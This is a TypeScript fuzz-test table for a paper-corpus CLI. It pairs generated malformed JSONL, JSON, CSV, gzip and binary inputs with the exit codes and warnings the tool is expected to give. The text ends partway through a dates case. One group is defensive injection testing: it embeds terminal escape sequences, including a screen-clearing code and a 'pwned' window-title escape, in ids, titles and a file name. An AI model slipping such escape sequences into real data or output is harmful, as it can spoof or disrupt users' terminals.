/**
 * The fuzz table: malformed inputs, bad options and bad paths, each with the
 * outcome the CLI should give (issue 16). Expectations are exact where the
 * behaviour is settled and loose (`exit: 'any'`, a kept range) where the
 * wording or the policy is still open. Every input is generated here from a
 * seed, so the table is the corpus.
 */
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { basePapers, concatBytes, csv, gzip, jsonArray, jsonl, randomBytes, scriptPapers, utf8, type PaperRecord } from './corpus.ts';
import { inspectArtifact, readTexts } from './artifactCheck.ts';
import { cli, runMain, type Case, type Expect, type Paths } from './runCase.ts';

/** The well-formed corpus every damaged input starts from. */
const N = 24;
const papers = (n = N, seed = 1): PaperRecord[] => basePapers(n, seed);
const okJsonl = () => jsonl(papers());
const extra = (i: number): PaperRecord => ({ ...basePapers(N + 1, 1)[N], id: `2401.9${String(i).padStart(4, '0')}`, title: `extra paper ${i} ${basePapers(N + 1, 1)[N].title}` });

/** The base corpus with `line` inserted after record `at` (0-based). */
function withLine(line: string, at = 10): string {
  const lines = papers().map((p) => JSON.stringify(p));
  lines.splice(at, 0, line);
  return lines.join('\n') + '\n';
}
const withRecord = (rec: unknown, at = 10) => withLine(JSON.stringify(rec), at);
const kept = (n: number, skipped: Record<string, number> = {}): Expect => ({ exit: 0, kept: n, read: n + Object.values(skipped).reduce((a, b) => a + b, 0), skipped });
const inputError = (error?: RegExp): Expect => ({ exit: 2, names: (p) => p.input, ...(error ? { error } : {}) });
const optionError = (option: string): Expect => ({ exit: 2, error: new RegExp(`--${option}`), beforeWork: true });

const HEADER = ['id', 'title', 'abstract', 'date'];
const csvOf = (records: readonly PaperRecord[], eol = '\n') => csv(records as unknown as Record<string, string>[], HEADER, eol);
const csvLines = (eol = '\n') => csvOf(papers(), eol).split(eol);
function csvWith(line: string, at = 10): string {
  const lines = csvLines();
  lines.splice(at + 1, 0, line);
  return lines.join('\n');
}

const ESC = '\u001b';
/** The base corpus plus two new papers sharing `id`: the second is a duplicate whose message prints the id. */
const dupId = (id: string) => jsonl([...papers(), { ...extra(1), id }, { ...extra(2), id }]);
const noRawEscape: Expect['notStderr'] = [/\u001b/];

function readTextsOf(p: Paths) {
  const art = inspectArtifact(p.out);
  if (!art.manifest) return null;
  return readTexts(p.out, art.manifest);
}

/** The artifact stores `title` verbatim, as text, in the titles file and in the doc records. */
function storedVerbatim(title: string) {
  return (p: Paths): string[] => {
    const t = readTextsOf(p);
    if (!t) return ['no artifact to look in'];
    const problems: string[] = [];
    if (!t.titles.includes(title)) problems.push(`titles file lacks ${JSON.stringify(title)} verbatim`);
    if (!t.docs.some((d) => d.title === title)) problems.push(`doc records lack ${JSON.stringify(title)} verbatim`);
    return problems;
  };
}

function untouched(files: Record<string, string>) {
  return (p: Paths): string[] =>
    Object.entries(files).flatMap(([rel, content]) => {
      const full = join(p.out, rel);
      if (!existsSync(full)) return [`${rel} was deleted`];
      return readFileSync(full, 'utf8') === content ? [] : [`${rel} was changed`];
    });
}

function noArtifactIn(dir: (p: Paths) => string) {
  return (p: Paths): string[] => (existsSync(join(dir(p), 'manifest.json')) ? ['an artifact was written anyway'] : []);
}

const replacementWarned = /U\+FFFD|replac|invalid (UTF-8|byte)|not (valid )?UTF-8|encoding|undecodable/i;

// ---------------------------------------------------------------------------

const JSONL: Case[] = [
  { name: 'jsonl well-formed', category: 'jsonl', input: okJsonl, expect: { ...kept(N), undated: 0 } },
  { name: 'jsonl line truncated mid-object', category: 'jsonl', input: () => withLine('{"id": "2301.99999", "title": "Trunc'), expect: kept(N, { malformed: 1 }) },
  { name: 'jsonl last line truncated, no newline', category: 'jsonl', input: () => okJsonl() + '{"id": "2301.99999", "title": "cut he', expect: kept(N, { malformed: 1 }) },
  { name: 'jsonl title is a number', category: 'jsonl', input: () => withRecord({ ...extra(1), title: 42 }), expect: { ...kept(N + 1), stderr: [/; 1 title made from the abstract's first sentence/] } },
  { name: 'jsonl title is an array', category: 'jsonl', input: () => withRecord({ ...extra(1), title: ['a', 'b'] }), expect: { ...kept(N + 1), stderr: [/; 1 title made from the abstract's first sentence/] } },
  { name: 'jsonl title is a nested object', category: 'jsonl', input: () => withRecord({ ...extra(1), title: { en: { text: 'x' } } }), expect: { ...kept(N + 1), stderr: [/; 1 title made from the abstract's first sentence/] } },
  { name: 'jsonl abstract is a number', category: 'jsonl', input: () => withRecord({ ...extra(1), abstract: 3.14 }), expect: { ...kept(N + 1), stderr: [/; 1 title-only/] } },
  { name: 'jsonl abstract is null', category: 'jsonl', input: () => withRecord({ ...extra(1), abstract: null }), expect: { ...kept(N + 1), stderr: [/; 1 title-only/] } },
  { name: 'jsonl abstract field missing', category: 'jsonl', input: () => withRecord({ id: 'x1', title: 'no abstract here', date: '2020-01-01' }), expect: kept(N, { 'empty-abstract': 1 }) },
  { name: 'jsonl abstract blank', category: 'jsonl', input: () => withRecord({ ...extra(1), abstract: '   \t ' }), expect: { ...kept(N + 1), stderr: [/; 1 title-only/] } },
  { name: 'jsonl title blank', category: 'jsonl', input: () => withRecord({ ...extra(1), title: '  ' }), expect: { ...kept(N + 1), stderr: [/; 1 title made from the abstract's first sentence/] } },
  // An abstract without a title is kept, titled by its first sentence; junk without a title is not a paper.
  { name: 'jsonl missing title with abstract', category: 'jsonl', input: () => withRecord({ id: 'x1', abstract: extra(1).abstract, date: '2020-01-01' }), expect: { ...kept(N + 1), stderr: [/; 1 title made from the abstract's first sentence/] } },
  { name: 'jsonl missing title, abstract of numbers', category: 'jsonl', input: () => withRecord({ id: 'x1', abstract: '0.1 0.2 0.3 0.4 0.5 0.6 0.7 0.8 0.9 1.0 1.1 1.2 %% $$ ## 42', date: '2020-01-01' }), expect: kept(N, { 'missing-title': 1 }) },
  { name: 'jsonl missing title, abstract of random letters', category: 'jsonl', input: () => withRecord({ id: 'x1', abstract: 'ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿ÃƒÂ©Â»Â¿', date: '2020-01-01' }), expect: kept(N, { 'missing-title': 1 }) },
  { name: 'jsonl short title, abstract is a number', category: 'jsonl', input: () => withRecord({ ...extra(1), title: 'Short title', abstract: 3.14 }), expect: kept(N, { 'empty-abstract': 1 }) },
  { name: 'jsonl title of 8+ words, no abstract', category: 'jsonl', input: () => withRecord({ id: 'x1', title: 'Thermal transport in twisted bilayer graphene near the magic angle', date: '2020-01-01' }), expect: { ...kept(N + 1), stderr: [/; 1 title-only \(no abstract; the title is the text\)/] } },
  { name: 'jsonl NaN literal', category: 'jsonl', input: () => withLine(`{"id": NaN, "title": "nan paper", "abstract": "${extra(1).abstract}"}`), expect: kept(N, { malformed: 1 }) },
  { name: 'jsonl Infinity literal', category: 'jsonl', input: () => withLine(`{"id": "inf", "title": "inf paper", "abstract": "${extra(1).abstract}", "date": Infinity}`), expect: kept(N, { malformed: 1 }) },
  { name: 'jsonl id number overflows to Infinity', category: 'jsonl', input: () => withLine(`{"id": 1e400, "title": "huge id", "abstract": "${extra(1).abstract}"}`), expect: kept(N + 1) },
  { name: 'jsonl id is a 30-digit integer', category: 'jsonl', input: () => withLine(`{"id": 123456789012345678901234567890, "title": "long id", "abstract": "${extra(1).abstract}"}`), expect: kept(N + 1) },
  { name: 'jsonl date is a huge number', category: 'jsonl', input: () => withLine(`{"id": "d1", "title": "huge date", "abstract": "${extra(1).abstract}", "date": 1e308}`), expect: { ...kept(N + 1), badDates: 1 } },
  {
    name: 'jsonl 100000-deep nesting in an extra field',
    category: 'jsonl',
    input: () => withLine(`{"id": "deep", "title": "deep", "abstract": "${extra(1).abstract}", "x": ${'['.repeat(100_000)}${']'.repeat(100_000)}}`),
    expect: { exit: 0, read: N + 1, kept: [N, N + 1] },
  },
  { name: 'jsonl top-level array line', category: 'jsonl', input: () => withLine('[1, 2, 3]'), expect: kept(N, { 'not-an-object': 1 }) },
  { name: 'jsonl top-level string line', category: 'jsonl', input: () => withLine('"just a string"'), expect: kept(N, { 'not-an-object': 1 }) },
  { name: 'jsonl top-level null line', category: 'jsonl', input: () => withLine('null'), expect: kept(N, { 'not-an-object': 1 }) },
  { name: 'jsonl top-level number line', category: 'jsonl', input: () => withLine('12345'), expect: kept(N, { 'not-an-object': 1 }) },
  { name: 'jsonl trailing comma in object', category: 'jsonl', input: () => withLine(`{"id": "tc", "title": "t", "abstract": "a",}`), expect: kept(N, { malformed: 1 }) },
  { name: 'jsonl single-quoted keys', category: 'jsonl', input: () => withLine(`{'id': 'sq', 'title': 't', 'abstract': 'a'}`), expect: kept(N, { malformed: 1 }) },
  { name: 'jsonl two objects on one line', category: 'jsonl', input: () => withLine(`${JSON.stringify(extra(1))}${JSON.stringify(extra(2))}`), expect: { exit: 0, kept: [N, N + 2] } },
  { name: 'jsonl duplicate id', category: 'jsonl', input: () => withRecord({ ...extra(1), id: papers()[3].id }), expect: kept(N, { duplicate: 1 }) },
  { name: 'jsonl duplicate content under a new id', category: 'jsonl', input: () => withRecord({ ...papers()[3], id: 'copy-of-3' }), expect: kept(N, { duplicate: 1 }) },
  { name: 'jsonl blank and whitespace lines between records', category: 'jsonl', input: () => papers().map((p) => JSON.stringify(p)).join('\n\n  \n\t\n') + '\n\n', expect: kept(N) },
  { name: 'jsonl CRLF line ends', category: 'jsonl', input: () => jsonl(papers(), '\r\n'), expect: kept(N) },
  { name: 'jsonl UTF-8 BOM', category: 'jsonl', input: () => '\ufeff' + okJsonl(), expect: kept(N) },
  { name: 'jsonl raw NUL inside a string', category: 'jsonl', input: () => withLine(`{"id": "nul", "title": "a\u0000b", "abstract": "${extra(1).abstract}"}`), expect: kept(N, { malformed: 1 }) },
  { name: 'jsonl escaped NUL inside a title', category: 'jsonl', input: () => withRecord({ ...extra(1), title: 'a\u0000b title' }), expect: kept(N + 1) },
  { name: 'jsonl 8 MB abstract on one line', category: 'jsonl', input: () => withRecord({ ...extra(1), abstract: 'lengthy '.repeat(1 << 20) }), expect: kept(N + 1) },
  {
    name: 'jsonl 4 MB garbage line',
    category: 'jsonl',
    input: () => withLine('{' + 'x'.repeat(4 << 20)),
    expect: { ...kept(N, { malformed: 1 }), check: (_p, o) => (o.stderr.split('\n').some((l) => l.length > 2000) ? ['a stderr line over 2000 characters'] : []) },
  },
  { name: 'jsonl every line malformed', category: 'jsonl', input: () => Array.from({ length: 30 }, (_, i) => `{"id": ${i}, oops`).join('\n'), expect: inputError(/no papers kept/) },
  { name: 'jsonl 200 bad lines: warnings capped, all counted', category: 'jsonl', input: () => okJsonl() + Array.from({ length: 200 }, (_, i) => `{bad ${i}`).join('\n'), expect: { ...kept(N, { malformed: 200 }), stderr: [/more issue/] } },
  { name: 'jsonl --strict stops at the first bad row', category: 'jsonl', input: () => withLine('{oops'), args: (p) => cli(p, '--strict'), expect: { exit: 2, error: /:11:/, names: (p) => p.input } },
  { name: 'jsonl --strict on a bad date', category: 'jsonl', input: () => withRecord({ ...extra(1), date: '2023-02-30' }), args: (p) => cli(p, '--strict'), expect: { exit: 2, error: /bad-date|date/, names: (p) => p.input } },
];

const JSON_ARRAY: Case[] = [
  { name: 'json array well-formed', category: 'json-array', ext: 'json', input: () => jsonArray(papers()), expect: kept(N) },
  { name: 'json array pretty-printed', category: 'json-array', ext: 'json', input: () => jsonArray(papers(), true), expect: kept(N) },
  { name: 'json array truncated mid-element', category: 'json-array', ext: 'json', input: () => { const s = jsonArray(papers()); return s.slice(0, s.length - 40); }, expect: kept(N - 1, { malformed: 1 }) },
  { name: 'json array truncated after a comma', category: 'json-array', ext: 'json', input: () => jsonArray(papers()).slice(0, -1) + ',', expect: { exit: 0, kept: N } },
  { name: 'json array without closing bracket', category: 'json-array', ext: 'json', input: () => jsonArray(papers()).slice(0, -1), expect: { exit: 0, kept: [N - 1, N] } },
  { name: 'json array with trailing garbage', category: 'json-array', ext: 'json', input: () => jsonArray(papers()) + '\n}}garbage{{', expect: { exit: 0, kept: N } },
  { name: 'json two arrays concatenated', category: 'json-array', ext: 'json', input: () => jsonArray(papers().slice(0, 12)) + jsonArray(papers().slice(12)), expect: kept(N) },
  { name: 'json two arrays on separate lines', category: 'json-array', ext: 'json', input: () => jsonArray(papers().slice(0, 12), true) + '\n' + jsonArray(papers().slice(12), true) + '\n', expect: kept(N) },
  { name: 'json array with null elements', category: 'json-array', ext: 'json', input: () => jsonArray([...papers().slice(0, 5), null, ...papers().slice(5), null]), expect: kept(N, { 'not-an-object': 2 }) },
  { name: 'json array with an empty element', category: 'json-array', ext: 'json', input: () => jsonArray(papers()).replace('},{', '},,{'), expect: kept(N, { malformed: 1 }) },
  { name: 'json array element with NaN', category: 'json-array', ext: 'json', input: () => '[' + papers().map((p, i) => (i === 4 ? JSON.stringify(p).replace(/"date":"[^"]*"/, '"date":NaN') : JSON.stringify(p))).join(',') + ']', expect: kept(N - 1, { malformed: 1 }) },
  { name: 'json array with an unterminated string', category: 'json-array', ext: 'json', input: () => '[' + papers().map((p, i) => (i === 12 ? JSON.stringify(p).replace(/"$/, '').replace(/"}$/, '}') : JSON.stringify(p))).join(',') + ']', expect: { exit: 0, kept: [12, N - 1] } },
  { name: 'json array of arrays', category: 'json-array', ext: 'json', input: () => JSON.stringify(papers().map((p) => [p.id, p.title])), expect: inputError(/no papers kept/) },
  { name: 'json empty array', category: 'json-array', ext: 'json', input: () => '[]', expect: inputError() },
  { name: 'json array of empty elements', category: 'json-array', ext: 'json', input: () => '[,,,]', expect: inputError() },
  { name: 'json object wrapping the papers', category: 'json-array', ext: 'json', input: () => JSON.stringify({ papers: papers() }, null, 2), expect: { exit: 'any', kept: N, names: (p) => p.input } },
  { name: 'json deeply nested element', category: 'json-array', ext: 'json', input: () => '[' + papers().map((p) => JSON.stringify(p)).join(',') + ',' + '['.repeat(50_000) + ']'.repeat(50_000) + ']', expect: { exit: 0, kept: N, read: N + 1 } },
  { name: 'json --format json on a JSONL file', category: 'json-array', input: okJsonl, args: (p) => cli(p, '--format', 'json'), expect: inputError() },
];

const CSV: Case[] = [
  { name: 'csv well-formed', category: 'csv', ext: 'csv', input: () => csvOf(papers()), expect: kept(N) },
  { name: 'csv CRLF line ends', category: 'csv', ext: 'csv', input: () => csvOf(papers(), '\r\n'), expect: kept(N) },
  { name: 'csv UTF-8 BOM', category: 'csv', ext: 'csv', input: () => '\ufeff' + csvOf(papers()), expect: kept(N) },
  { name: 'csv BOM and CRLF', category: 'csv', ext: 'csv', input: () => '\ufeff' + csvOf(papers(), '\r\n'), expect: kept(N) },
  { name: 'csv multi-line quoted abstracts', category: 'csv', ext: 'csv', input: () => csvOf(papers().map((p) => ({ ...p, abstract: p.abstract.replace(/ /g, (m, i: number) => (i % 7 === 0 ? '\n' : m)) }))), expect: kept(N) },
  { name: 'csv multi-line field with CRLF inside quotes', category: 'csv', ext: 'csv', input: () => csvOf(papers().map((p) => ({ ...p, abstract: p.abstract.replace(' ', '\r\n') })), '\r\n'), expect: kept(N) },
  { name: 'csv unbalanced quote opens a field', category: 'csv', ext: 'csv', input: () => csvWith(`x1,"an unclosed title,${extra(1).abstract},2020-01-01`), expect: kept(N, { malformed: 1 }) },
  { name: 'csv unbalanced quote on the last line', category: 'csv', ext: 'csv', input: () => csvOf(papers()) + `x1,"never closed,${extra(1).abstract},2020-01-01`, expect: kept(N, { malformed: 1 }) },
  { name: 'csv quote inside an unquoted field', category: 'csv', ext: 'csv', input: () => csvWith(`x1,a 6" ruler,${extra(1).abstract},2020-01-01`), expect: { exit: 0, read: N + 1, kept: [N, N + 1] } },
  { name: 'csv text after a closing quote', category: 'csv', ext: 'csv', input: () => csvWith(`x1,"quoted"tail,${extra(1).abstract},2020-01-01`), expect: { exit: 0, read: N + 1, kept: [N, N + 1] } },
  { name: 'csv row with too many fields', category: 'csv', ext: 'csv', input: () => csvWith(`x1,t,a,2020-01-01,extra,more`), expect: kept(N, { malformed: 1 }) },
  { name: 'csv row with too few fields', category: 'csv', ext: 'csv', input: () => csvWith(`x1,only a title`), expect: kept(N, { malformed: 1 }) },
  { name: 'csv quoted field open for 1500 lines', category: 'csv', ext: 'csv', input: () => csvWith(`x1,"runaway title,` + '\nmore text'.repeat(1500)), expect: { exit: 0, kept: N } },
  { name: 'csv blank lines between rows', category: 'csv', ext: 'csv', input: () => csvLines().join('\n\n'), expect: kept(N) },
  { name: 'csv duplicated header naming a read column', category: 'csv', ext: 'csv', input: () => csv(papers().map((p) => ({ ...p })) as unknown as Record<string, string>[], ['id', 'title', 'abstract', 'title']), expect: inputError(/title/) },
  { name: 'csv duplicated abstract column', category: 'csv', ext: 'csv', input: () => csv(papers() as unknown as Record<string, string>[], ['id', 'abstract', 'title', 'abstract']), expect: inputError(/abstract/) },
  { name: 'csv duplicated header of an unread column', category: 'csv', ext: 'csv', input: () => csv(papers().map((p) => ({ ...p, x: 'x' })) as unknown as Record<string, string>[], ['id', 'title', 'abstract', 'x', 'x']), expect: { exit: 0, kept: N } },
  // An abstract-only export: every title is made from its abstract, and the summary says so.
  { name: 'csv missing title column (detected)', category: 'csv', ext: 'csv', input: () => csv(papers() as unknown as Record<string, string>[], ['id', 'abstract', 'date']), expect: { ...kept(N), stderr: [/no title column/, new RegExp(`; ${N} titles made from the abstract's first sentence`)] } },
  { name: 'csv missing title column (--format csv)', category: 'csv', ext: 'csv', input: () => csv(papers() as unknown as Record<string, string>[], ['id', 'abstract', 'date']), args: (p) => cli(p, '--format', 'csv'), expect: { ...kept(N), stderr: [new RegExp(`; ${N} titles made from the abstract's first sentence`)] } },
  { name: 'csv --col-title naming a column not in the header', category: 'csv', ext: 'csv', input: () => csv(papers() as unknown as Record<string, string>[], ['id', 'abstract', 'date']), args: (p) => cli(p, '--format', 'csv', '--col-title', 'name'), expect: inputError(/no title column/) },
  { name: 'csv missing abstract column', category: 'csv', ext: 'csv', input: () => csv(papers() as unknown as Record<string, string>[], ['id', 'title', 'date']), expect: inputError(/abstract/) },
  { name: 'csv header only', category: 'csv', ext: 'csv', input: () => 'id,title,abstract,date\n', expect: inputError(/no papers kept/) },
  {
    name: 'csv float-damaged arXiv ids are repaired',
    category: 'csv',
    ext: 'csv',
    input: () => csvOf(papers().map((p, i) => (i === 0 ? { ...p, id: '704.001' } : i === 1 ? { ...p, id: '1501.1' } : p))),
    expect: { ...kept(N), check: (p) => { const t = readTextsOf(p); return t && t.ids.includes('0704.0010') && t.ids.includes('1501.10000') ? [] : ['ids 704.001 / 1501.1 not repaired to 0704.0010 / 1501.10000']; } },
  },
  { name: 'csv mapped columns', category: 'csv', ext: 'csv', input: () => csv(papers().map((p) => ({ key: p.id, name: p.title, body: p.abstract, when: p.date })), ['key', 'name', 'body', 'when']), args: (p) => cli(p, '--format', 'csv', '--col-id', 'key', '--col-title', 'name', '--col-abstract', 'body', '--col-date', 'when'), expect: { ...kept(N), undated: 0 } },
  { name: 'csv --col-title naming a missing column', category: 'csv', ext: 'csv', input: () => csvOf(papers()), args: (p) => cli(p, '--col-title', 'headline'), expect: inputError(/headline|title/) },
  { name: 'csv semicolon-separated', category: 'csv', ext: 'csv', input: () => csvOf(papers()).replace(/,/g, ';'), expect: { exit: 2, names: (p) => p.input } },
  { name: 'csv --format csv on a JSONL file', category: 'csv', input: okJsonl, args: (p) => cli(p, '--format', 'csv'), expect: inputError() },
];

const GZIP: Case[] = [
  { name: 'gzip well-formed JSONL', category: 'gzip', ext: 'jsonl.gz', input: () => gzip(okJsonl()), expect: kept(N) },
  { name: 'gzip truncated', category: 'gzip', ext: 'jsonl.gz', input: () => { const g = gzip(okJsonl()); return g.subarray(0, Math.floor(g.length / 2)); }, expect: inputError(/gzip|truncated|unexpected end/i) },
  { name: 'gzip missing its last 4 bytes', category: 'gzip', ext: 'jsonl.gz', input: () => { const g = gzip(okJsonl()); return g.subarray(0, g.length - 4); }, expect: inputError(/gzip|truncated|unexpected end/i) },
  { name: 'gzip trailing zero padding', category: 'gzip', ext: 'jsonl.gz', input: () => concatBytes(gzip(okJsonl()), new Uint8Array(4096)), expect: kept(N) },
  { name: 'gzip two members concatenated', category: 'gzip', ext: 'jsonl.gz', input: () => { const s = okJsonl(); const cut = s.indexOf('\n', s.length / 2) + 1; return concatBytes(gzip(s.slice(0, cut)), gzip(s.slice(cut))); }, expect: kept(N) },
  { name: 'gzip trailing garbage after the member', category: 'gzip', ext: 'jsonl.gz', input: () => concatBytes(gzip(okJsonl()), 'not gzip at all'), expect: { exit: 'any', kept: N, names: (p) => p.input } },
  { name: 'gzip corrupted body', category: 'gzip', ext: 'jsonl.gz', input: () => { const g = Buffer.from(gzip(okJsonl())); for (let i = 40; i < 60; i++) g[i] ^= 0x5a; return g; }, expect: inputError(/gzip|decompress/i) },
  { name: 'gzip of nothing', category: 'gzip', ext: 'jsonl.gz', input: () => gzip(''), expect: inputError(/empty/) },
  { name: 'gzip magic bytes only', category: 'gzip', ext: 'jsonl.gz', input: () => Uint8Array.from([0x1f, 0x8b]), expect: inputError() },
  { name: 'gzip of a BOM CSV', category: 'gzip', ext: 'csv.gz', input: () => gzip('\ufeff' + csvOf(papers(), '\r\n')), expect: kept(N) },
  { name: 'gzip twice', category: 'gzip', ext: 'jsonl.gz', input: () => gzip(gzip(okJsonl())), expect: inputError() },
];

const EMPTY_BINARY: Case[] = [
  { name: 'empty file', category: 'empty-binary', input: () => '', expect: inputError(/empty/) },
  { name: 'whitespace-only file', category: 'empty-binary', input: () => ' \t \n\n   \r\n', expect: inputError(/empty/) },
  { name: 'newlines only', category: 'empty-binary', input: () => '\n'.repeat(10_000), expect: inputError(/empty/) },
  { name: 'binary garbage', category: 'empty-binary', ext: 'bin', input: () => randomBytes(64 * 1024, 11), expect: inputError() },
  { name: 'binary garbage after an opening brace', category: 'empty-binary', ext: 'bin', input: () => concatBytes('{', randomBytes(16 * 1024, 12)), expect: inputError() },
  { name: 'binary garbage after an opening bracket', category: 'empty-binary', ext: 'bin', input: () => concatBytes('[', randomBytes(16 * 1024, 13)), expect: inputError() },
  { name: 'a PNG file', category: 'empty-binary', ext: 'png', input: () => concatBytes(Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(8 * 1024, 14)), expect: inputError() },
  { name: 'a zip file', category: 'empty-binary', ext: 'zip', input: () => concatBytes('PK\u0003\u0004', randomBytes(8 * 1024, 15)), expect: inputError() },
  { name: 'NUL bytes only', category: 'empty-binary', input: () => new Uint8Array(4096), expect: inputError() },
  { name: 'UTF-16LE JSONL', category: 'empty-binary', input: () => concatBytes(Uint8Array.from([0xff, 0xfe]), Buffer.from(okJsonl(), 'utf16le')), expect: { exit: 'any', kept: N, names: (p) => p.input } },
  { name: 'input is a directory', category: 'empty-binary', setup: (p) => { mkdirSync(join(p.dir, 'adir'), { recursive: true }); }, args: (p) => cli({ ...p, input: join(p.dir, 'adir') }), expect: { exit: 2, error: /directory/, beforeWork: true } },
  { name: 'input does not exist', category: 'empty-binary', args: (p) => cli({ ...p, input: join(p.dir, 'nope.jsonl') }), expect: { exit: 2, error: /nope\.jsonl/, beforeWork: true } },
  { name: 'input is /dev/null', category: 'empty-binary', args: (p) => cli({ ...p, input: '/dev/null' }), expect: { exit: 2, error: /\/dev\/null/ } },
];

const latin1Title = (): Uint8Array => {
  const lines = papers().map((p) => utf8(JSON.stringify(p) + '\n'));
  // "Café résumé" in Latin-1: 0xE9 is not valid UTF-8 on its own.
  const bad = concatBytes('{"id": "lat1", "title": "Caf', Uint8Array.from([0xe9]), ' r', Uint8Array.from([0xe9]), 'sum', Uint8Array.from([0xe9]), ` ${extra(1).title}", "abstract": "${extra(1).abstract}"}\n`);
  return concatBytes(...lines.slice(0, 10), bad, ...lines.slice(10));
};

const ENCODING: Case[] = [
  { name: 'latin-1 bytes in one title', category: 'encoding', input: latin1Title, expect: { ...kept(N + 1), stderr: [replacementWarned] } },
  {
    name: 'invalid UTF-8 continuation in an abstract',
    category: 'encoding',
    input: () => concatBytes(okJsonl(), `{"id": "bad8", "title": "${extra(1).title}", "abstract": "${extra(1).abstract} `, Uint8Array.from([0xc3, 0x28]), '"}\n'),
    expect: { ...kept(N + 1), stderr: [replacementWarned] },
  },
  { name: 'whole file in Latin-1', category: 'encoding', input: () => Buffer.from(jsonl(papers().map((p) => ({ ...p, title: `${p.title} café naïve` }))), 'latin1'), expect: { ...kept(N), stderr: [replacementWarned] } },
  { name: 'UTF-8 encoded surrogates', category: 'encoding', input: () => concatBytes(okJsonl(), '{"id": "sur", "title": "surrogate ', Uint8Array.from([0xed, 0xa0, 0x80]), ` ${extra(1).title}", "abstract": "${extra(1).abstract}"}\n`), expect: { ...kept(N + 1), stderr: [replacementWarned] } },
  { name: 'Chinese abstracts mixed in', category: 'encoding', input: () => jsonl([...papers(), ...scriptPapers(6, 'chinese')]), expect: kept(N + 6) },
  // Whether a corpus the tokenizer finds no terms in is kept or refused is open; either way in one line.
  { name: 'Chinese-only corpus', category: 'encoding', input: () => jsonl(scriptPapers(20, 'chinese')), expect: { exit: 'any', kept: 20 } },
  { name: 'Arabic abstracts mixed in', category: 'encoding', input: () => jsonl([...papers(), ...scriptPapers(6, 'arabic')]), expect: kept(N + 6) },
  { name: 'Arabic-only corpus', category: 'encoding', input: () => jsonl(scriptPapers(20, 'arabic')), expect: { exit: 'any', kept: 20 } },
  { name: 'emoji and astral characters in titles', category: 'encoding', input: () => jsonl(papers().map((p, i) => ({ ...p, title: `${p.title} 🚀𝔘𝔫𝔦 ${i}` }))), expect: kept(N) },
  { name: 'combining marks and zero-width joiners', category: 'encoding', input: () => jsonl(papers().map((p) => ({ ...p, abstract: `${p.abstract} e\u0301\u200d\u200b` }))), expect: kept(N) },
];

const ESCAPES: Case[] = [
  { name: 'terminal escape in a duplicated id', category: 'escapes', input: () => dupId(`${ESC}[31mRED${ESC}[0m`), expect: { ...kept(N + 1, { duplicate: 1 }), notStderr: noRawEscape } },
  { name: 'OSC title-setting escape in an id', category: 'escapes', input: () => dupId(`${ESC}]0;pwned\u0007`), expect: { ...kept(N + 1, { duplicate: 1 }), notStderr: noRawEscape } },
  { name: 'C1 CSI and carriage return in an id', category: 'escapes', input: () => dupId('a\u009b2J\rb'), expect: kept(N + 1, { duplicate: 1 }) },
  { name: 'escape in a title without abstract', category: 'escapes', input: () => withRecord({ id: 'e1', title: `${ESC}[2J${ESC}[Hcleared`, date: '2020-01-01' }), expect: { ...kept(N, { 'empty-abstract': 1 }), notStderr: noRawEscape } },
  { name: 'escape in a bad date', category: 'escapes', input: () => withRecord({ ...extra(1), date: `${ESC}[5m2020` }), expect: { ...kept(N + 1), badDates: 1, notStderr: noRawEscape } },
  { name: 'escape in a malformed line', category: 'escapes', input: () => withLine(`{"id": "x", ${ESC}[31m broken`), expect: { ...kept(N, { malformed: 1 }), notStderr: noRawEscape } },
  { name: 'escape in a duplicated CSV id', category: 'escapes', ext: 'csv', input: () => csvOf([...papers(), { ...extra(1), id: `${ESC}[31mX` }, { ...extra(2), id: `${ESC}[31mX` }]), expect: { ...kept(N + 1, { duplicate: 1 }), notStderr: noRawEscape } },
  { name: 'escape in the input file name', category: 'escapes', input: okJsonl, args: (p) => cli({ ...p, input: join(p.dir, `no${ESC}[31mfile.jsonl`) }), expect: { exit: 2, notStderr: noRawEscape } },
  { name: 'escape in --k', category: 'escapes', input: okJsonl, args: (p) => cli(p, '--k', `${ESC}[31m3`), expect: { exit: 2, notStderr: noRawEscape } },
];

const ROW_DATES = (date: unknown) => () => withRecord({ ...extra(1), date });
const DATES: Case[] = [
  { name: 'date 2023-02-30 is impossible', category: 'dates', input: ROW_DATES('2023-02-30'), expect: { ...kept(N + 1), badDates: 1, undated: 1 } },
  { name: 'date month 13', category: 'dates', input: ROW_DATES('2021-13-01'), expect: { ...kept(N + 1), badDates: 1, undated: 1 } },
  { name: 'date far future 2204-05-01', category: 'dates', input: ROW_DATES('2204-05-01'), expect: { ...kept(N + 1), badDates: 1, undated: 1 } },
  { name: 'date far future 9999-12-31', category: 'dates', input: ROW_DATES('9999-12-31'), expect: { ...kept(N + 1), badDates: 1, undated: 1 } },
  { name: 'date too old 0999-01-01', category: 'dates', input: ROW_DATES('0999-01-01'), expect: { ...kept(N + 1), badDates: 1, undated: 1 } },
  { name: 'date free text', category: 'dates', input: ROW_DATES('yesterday'), expect: { ...kept(N + 1), badDates: 1, undated: 1 } },
  { name: 'date as a number 20230101', category: 'dates', input: ROW_DATES(20230101), expect: { ...kept(N + 1), badDates: 1, undated: 1 } },
  { name: 'date as an object', category: 'dates', input: ROW_DATES({ y: 2020 }), expect: { ...kept(N + 1), badDates: 1, undated: 1 } },
  { name: 'no dates at all', category: 'dates', input: () => jsonl(papers().map(({ date: _date, ...p }) => ({ ...p, id: `p-${p.id}` }))), expect: { ...kept(N), undated: N } },
  { name: 'mixed precision and time zones', category: 'dates', input: () => jsonl(papers().map((p, i) => ({ ...p, date: [p.date.slice(0, 4), p.date.slice(0, 7), `${p.date}T23:30:00-05:00`, `${p.date} 10:00:00Z`][i % 4] }))), expect: { ...kept(N), undated: 0, badDates: 0 } },
  {
    name: '--bin month over 1000..9999',
    category: 'dates',
    input: () => jsonl(papers().map((p, i) => ({ ...p, date: i === 0 ? '1000-01-01' : i === 1 ? '9999-12-01' : p.date }))),
    args: (p) => cli(p, '--bin', 'month'),
